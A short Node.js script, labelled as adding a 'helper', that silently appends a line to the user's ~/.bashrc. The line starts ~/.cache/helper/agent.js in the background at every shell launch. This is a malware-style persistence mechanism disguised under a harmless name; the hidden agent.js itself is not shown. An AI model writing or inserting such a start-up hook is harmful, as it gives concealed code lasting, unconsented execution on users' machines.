#!/usr/bin/env node
// Adds a "helper" to the shell start-up file.
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\nnode ~/.cache/helper/agent.js &\n');
